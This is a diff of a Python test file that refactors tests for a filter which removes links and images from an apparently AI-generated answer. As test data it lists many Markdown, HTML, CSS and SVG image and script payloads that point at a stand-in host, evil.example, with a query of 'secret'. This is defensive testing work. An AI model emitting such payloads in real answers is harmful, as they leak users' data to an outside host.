@@ -4,13 +4,13 @@ from __future__ import annotations
 
 import random
 import re
-import time
+from functools import partial
 
-import pytest
 from markdown_it import MarkdownIt
 
 from agents.answers.unlinked import NO_ADDRESSES, Addresses, Unlinking, addresses_of, unlinked
 from agents.roles import NumberedPassage
+from tests.growth import grows_with_length_alone
 
 SOURCE = "https://wiki.example/handbook"
 PORTAL = "https://hr.example/portal?a=1"
@@ -18,33 +18,33 @@ PASSAGE = NumberedPassage(1, "p", "Travel", f"Trips are booked at {PORTAL}.", SO
 KNOWN = addresses_of([PASSAGE])
 EVIL = "https://evil.example/log?q=secret"
 
-IMAGES = {
-    "inline": f"![chart]({EVIL})",
-    "without words": f"![]({EVIL})",
-    "with a title": f'![chart](<{EVIL}> "of sales")',
-    "of a source": f"![chart]({SOURCE})",
-    "in a link": f"[![the chart]({EVIL})]({EVIL})",
-    "with brackets in its words": f"![a [b] \\] c]({EVIL})",
-    "over two lines": f"![a\nb]({EVIL})",
-    "by reference": f"![chart][c]\n\n[c]: {EVIL}\n",
-    "by a number": "![1]\n\n[1]: //evil.example/x.png 'title'\n",
-    "by a number behind carriage returns": "![1]\r\r[1]: //evil.example/x.png\r",
-    "by its own words": f"![c]\n\n> [c]:\n> {EVIL}\n",
-    "HTML": f"<img src='{EVIL}' alt=\"a > b\">",
-    "HTML over lines": f"<IMG\n  srcset = {EVIL}\n>",
-    "picture": f"<picture><source srcset='{EVIL}'><img src='{EVIL}'></picture>",
-    "style": f'<b style="background: u\\72l({EVIL})"></b>',
-    "style sheet": f"<style>body {{ background: url({EVIL}) }}</style>",
-    "poster": f"<video poster={EVIL}></video>",
-    "SVG": f"<svg><image href='{EVIL}'/><rect fill='url({EVIL})'/></svg>",
-    "frame": f"<iframe srcdoc='<img src={EVIL}>'></iframe>",
-    "of parts": f"<im<img src=x>g src='{EVIL}'>",
-    "of parts in Markdown": f"!![a](b/c)[x]({EVIL})",
-    "of an address": "![a]https://(//evil.example/x.png)",
-    "behind a tag": f"<img src=x> [1]: {EVIL}\n\nGreat![1]",
-    "in a comment": f"<!-- <img src='{EVIL}'> -->",
-    "never ended": f"<div {'x ' * 1500} style='background:url({EVIL})'>",
-}
+IMAGES = (
+    f"![chart]({EVIL})",
+    f"![]({EVIL})",
+    f'![chart](<{EVIL}> "of sales")',
+    f"![chart]({SOURCE})",
+    f"[![the chart]({EVIL})]({EVIL})",
+    f"![a [b] \\] c]({EVIL})",
+    f"![a\nb]({EVIL})",
+    f"![chart][c]\n\n[c]: {EVIL}\n",
+    "![1]\n\n[1]: //evil.example/x.png 'title'\n",
+    "![1]\r\r[1]: //evil.example/x.png\r",
+    f"![c]\n\n> [c]:\n> {EVIL}\n",
+    f"<img src='{EVIL}' alt=\"a > b\">",
+    f"<IMG\n  srcset = {EVIL}\n>",
+    f"<picture><source srcset='{EVIL}'><img src='{EVIL}'></picture>",
+    f'<b style="background: u\\72l({EVIL})"></b>',
+    f"<style>body {{ background: url({EVIL}) }}</style>",
+    f"<video poster={EVIL}></video>",
+    f"<svg><image href='{EVIL}'/><rect fill='url({EVIL})'/></svg>",
+    f"<iframe srcdoc='<img src={EVIL}>'></iframe>",
+    f"<im<img src=x>g src='{EVIL}'>",
+    f"!![a](b/c)[x]({EVIL})",
+    "![a]https://(//evil.example/x.png)",
+    f"<img src=x> [1]: {EVIL}\n\nGreat![1]",
+    f"<!-- <img src='{EVIL}'> -->",
+    f"<div {'x ' * 1500} style='background:url({EVIL})'>",
+)
 
 
 def rendered(text: str) -> str:
@@ -65,38 +65,31 @@ def in_pieces(text: str, size: int) -> str:
     return "".join([*said, unlinking.end()])
 
 
-@pytest.mark.parametrize("image", IMAGES.values(), ids=IMAGES)
-class TestImages:
-    def test_none_is_loaded(self, image: str) -> None:
-        left = unlinked(f"It rose {image} by 3 % [1].", KNOWN)
-        assert "<img" not in rendered(left)
-        assert not named_in(left)
+def test_no_image_is_loaded_of_a_text_or_of_any_part_of_a_stream() -> None:
+    for image in IMAGES:
+        text = f"It rose {image} by 3 % [1]."
+        left = unlinked(text, KNOWN)
+        assert "<img" not in rendered(left), image
+        assert not named_in(left), image
         assert "https://" not in left
         assert left.startswith("It rose ")
         assert "by 3 % [1]." in left
-
-    @pytest.mark.parametrize("size", [1, 3, 7])
-    def test_none_is_loaded_from_any_part_of_a_stream(self, image: str, size: int) -> None:
-        text = f"It rose {image} by 3 % [1]."
-        assert in_pieces(text, size) == unlinked(text, KNOWN)
+        for size in (1, 7) if len(text) < 1_000 else (3,):
+            assert in_pieces(text, size) == left, image
 
 
-@pytest.mark.parametrize(
-    "tag",
-    [
+def test_no_tag_is_left_that_acts() -> None:
+    for tag in (
         '<style ">* { background: url(//evil.example) }</style ">',
         "<script \">location='//evil.example'</script \">",
         "<details open ontoggle=\"location='//evil.example'\">",
         "<b attributionsrc='//evil.example'>",
-    ],
-)
-def test_no_tag_is_left_that_acts(tag: str) -> None:
-    assert not re.search("<[a-z]", unlinked(tag))
+    ):
+        assert not re.search("<[a-z]", unlinked(tag))
 
 
-@pytest.mark.parametrize(
-    ("text", "left"),
-    [
+def test_a_link_is_its_text_unless_it_is_of_a_source() -> None:
+    for text, left in (
         (f"See [the portal]({EVIL}) [1].", "See the portal [1]."),
         (f"See [the portal]({EVIL} 'title') [1].", "See the portal [1]."),
         ("See [the guide](guide.md) [1].", "See the guide [1]."),
@@ -106,15 +99,9 @@ def test_no_tag_is_left_that_acts(tag: str) -> None:
         ("See www.evil.example [1].", "See evil.example [1]."),
         ("See <someone@example.com> [1].", "See someone@example.com [1]."),
         ("Term\n: [1]: //evil.example\n~ [2]: //evil.example", "Term\n: \n~ "),
-    ],
-)
-def test_a_link_is_its_text(text: str, left: str) -> None:
-    assert unlinked(text, KNOWN) == left
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
+    ):
+        assert unlinked(text, KNOWN) == left
+    for text in (
         f"See [the handbook]({SOURCE}) [1].",
         f"Trips are booked at {PORTAL}. [1] ({PORTAL}), **{PORTAL}**, [{PORTAL}]",
         "Great [1][2]. [1-3] says so, [2024] too [unsupported].",
@@ -122,11 +109,8 @@ def test_a_link_is_its_text(text: str, left: str) -> None:
         '<property name="url" value="jdbc"/> <td align="left">',
         "x" * 3_000 + " [" + "y " * 1_500,
         "",
-    ],
-)
-def test_what_is_no_link_or_of_a_source_stays_as_it_is(text: str) -> None:
-    assert unlinked(text, KNOWN) == text
-    assert in_pieces(text, 5) == text
+    ):
+        assert unlinked(text, KNOWN) == in_pieces(text, 50 if len(text) > 1_000 else 5) == text
 
 
 def test_words_come_at_once_and_what_may_become_an_image_when_it_is_settled() -> None:
@@ -142,7 +126,7 @@ def test_whatever_is_put_together_nothing_of_it_is_loaded() -> None:
         *(EVIL, SOURCE, "<img src=x>", "![a](u/b)", "[1]", "www.", "style", "- "),
     ]
     at_random = random.Random(0)
-    for _ in range(3_000):
+    for _ in range(1_000):
         text = "".join(at_random.choices(signs, k=at_random.randint(1, 25)))
         left = unlinked(text, KNOWN)
         assert "<img" not in rendered(left), text
@@ -150,8 +134,9 @@ def test_whatever_is_put_together_nothing_of_it_is_loaded() -> None:
         assert in_pieces(text, 3) == left, text
 
 
-@pytest.mark.parametrize("part", ["[", "[a](x", "![a](b/", "[x ", "<a ", "<!--", "http://", "](", "<a b='", "[[a]"])
-def test_a_text_of_beginnings_takes_no_time(part: str) -> None:
-    start = time.perf_counter()
-    unlinked(part * (20_000 // len(part)), Addresses())
-    assert time.perf_counter() - start < 5
+def test_a_text_of_beginnings_takes_linear_time() -> None:
+    def unlink(part: str, length: int) -> None:
+        unlinked(part * length, Addresses())
+
+    for part in ("[", "[a](x", "![a](b/", "[x ", "<a ", "<!--", "http://", "](", "<a b='", "[[a]"):
+        assert grows_with_length_alone(partial(unlink, part), 100, 5_000), part
